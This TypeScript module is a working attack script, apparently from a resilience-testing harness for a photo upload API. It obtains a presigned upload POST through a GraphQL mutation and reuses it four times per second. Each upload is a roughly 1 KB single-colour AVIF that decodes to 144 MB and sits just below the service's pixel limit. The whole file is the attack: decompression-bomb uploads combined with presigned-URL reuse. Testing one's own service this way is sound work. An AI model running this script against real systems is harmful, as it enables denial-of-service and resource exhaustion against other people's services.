/** Attack on direct uploads: one presigned POST, used repeatedly. */
import { readFile } from 'node:fs/promises';
import { setTimeout as delay } from 'node:timers/promises';
import sharp from 'sharp';
import { createClient, newCounts } from '../system/client.ts';
import type { Attack, Target } from './types.ts';

/** ms between two posts. */
const POST_INTERVAL_MS = 250;

/** 48 megapixels, just below MAX_PIXELS (50 million). */
const [WIDTH, HEIGHT] = [8_000, 6_000];

const REQUEST = `mutation ($type: String!) {
  requestPhotoUpload(contentType: $type) { url fields { name value } photo { id } }
}`;

/** Attack 4: uploads a small file of many pixels with the same presigned POST four times per second. */
export const reusePresignedPost: Attack = async (target, count) => {
  const post = await requestUpload(target, 'image/avif');
  const photo = new Uint8Array(await readFile(target.photo ?? ''));
  const end = Date.now() + target.seconds * 1_000;
  const posts: Promise<void>[] = [];
  while (Date.now() < end) {
    posts.push(sendPost(post, photo).then(count));
    await delay(POST_INTERVAL_MS);
  }
  await Promise.all(posts);
};

/** A single color compresses to about 1 KB and decodes to 144 MB. */
export const drawLargeAvif = () =>
  sharp({ create: { width: WIDTH, height: HEIGHT, channels: 3, background: '#3366cc' } })
    .avif({ effort: 0, quality: 30 })
    .toBuffer();

interface PresignedPost {
  url: string;
  fields: { name: string; value: string }[];
  photoId: string;
  type: string;
}

/** Requests a presigned POST for one direct upload. @throws Error if the API rejects it */
export async function requestUpload(
  { url, token }: Pick<Target, 'url' | 'token'>,
  type: string,
): Promise<PresignedPost> {
  const call = createClient(url, newCounts());
  const operation = { query: REQUEST, variables: { type }, token };
  const { code, data } = await call('requestPhotoUpload', operation);
  if (code !== 'OK') throw new Error(`requestPhotoUpload failed with ${code}.`);
  const { photo, ...post } = data.requestPhotoUpload;
  return { ...post, type, photoId: photo.id };
}

/** Uploads a file to the bucket. @returns the HTTP status, or `no answer` */
export async function sendPost(
  { url, fields, type }: PresignedPost,
  file: Uint8Array<ArrayBuffer>,
) {
  const form = new FormData();
  for (const { name, value } of fields) form.append(name, value);
  form.append('file', new Blob([file], { type }), 'photo');
  const signal = AbortSignal.timeout(30_000);
  const response = await fetch(url, { method: 'POST', body: form, signal }).catch(() => undefined);
  await response?.arrayBuffer().catch(() => undefined);
  return response ? `${response.status}` : 'no answer';
}
